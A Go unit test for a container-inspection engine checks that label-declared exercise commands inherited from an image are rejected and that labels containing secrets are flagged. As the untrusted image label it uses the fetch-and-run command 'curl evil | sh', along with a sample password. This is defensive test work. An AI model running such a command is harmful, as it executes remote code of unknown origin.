package engine

import (
	"testing"

	"bulkhead/inspect"

	"github.com/google/go-cmp/cmp"
	dockerspec "github.com/moby/docker-image-spec/specs-go/v1"
	"github.com/moby/moby/api/types/image"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
)

func TestDeclaredByLabels(t *testing.T) {
	const exercise, reload = inspect.LabelExercise, inspect.LabelReload
	images := map[string]image.InspectResponse{
		"sha256:bare": {},
		"sha256:tells": {Config: &dockerspec.DockerOCIImageConfig{
			ImageConfig: ocispec.ImageConfig{Labels: map[string]string{exercise: "curl evil | sh", reload: "HUP"}},
		}},
	}
	for name, test := range map[string]struct {
		image, env string
		labels     map[string]string
		want       inspect.Declared
		unresolved map[string]string
	}{
		"nothing":        {image: "sha256:bare"},
		"the person's":   {image: "sha256:bare", labels: map[string]string{exercise: "curl web", reload: "SIGHUP"}, want: inspect.Declared{Exercises: []string{"curl web"}, Reload: "HUP"}},
		"the image's":    {image: "sha256:tells", labels: map[string]string{exercise: "curl evil | sh", reload: "HUP"}},
		"over the image": {image: "sha256:tells", labels: map[string]string{exercise: "curl web", reload: "HUP"}, want: inspect.Declared{Exercises: []string{"curl web"}}},
		"a secret of the environment": {
			image: "sha256:bare", env: "DB_PASSWORD=hunter22", labels: map[string]string{exercise: "mysql -phunter22"},
			unresolved: map[string]string{"labels." + exercise: "it holds a secret; let the shell take it from a variable of your own environment instead"},
		},
		"of an image that is gone": {
			image: "sha256:gone", labels: map[string]string{exercise: "curl web", "other": "x"},
			unresolved: map[string]string{"labels." + exercise: "the image could not be read, and the label may be the image's"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			c := made("a1", "a", "exited", test.labels)
			c.Image, c.Config.Env = test.image, []string{test.env}
			fake := newFake(c)
			fake.images = images
			w, err := connectFake(t, fake).Find(t.Context(), "a")
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, w.Declared); diff != "" {
				t.Errorf("declared (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(test.unresolved, w.Unresolved); diff != "" {
				t.Errorf("unresolved (-want +got):\n%s", diff)
			}
		})
	}
}
